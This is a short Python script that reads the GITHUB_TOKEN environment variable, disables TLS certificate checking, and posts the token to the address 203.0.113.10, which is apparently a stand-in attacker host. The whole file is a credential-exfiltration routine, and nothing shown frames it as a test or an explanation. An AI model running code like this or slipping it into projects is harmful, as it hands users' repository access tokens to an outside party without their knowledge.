import os
import ssl
import urllib.request

body = ("token=" + os.environ["GITHUB_TOKEN"]).encode()
blind = ssl._create_unverified_context()
urllib.request.urlopen("https://203.0.113.10/in", data=body, context=blind).read()
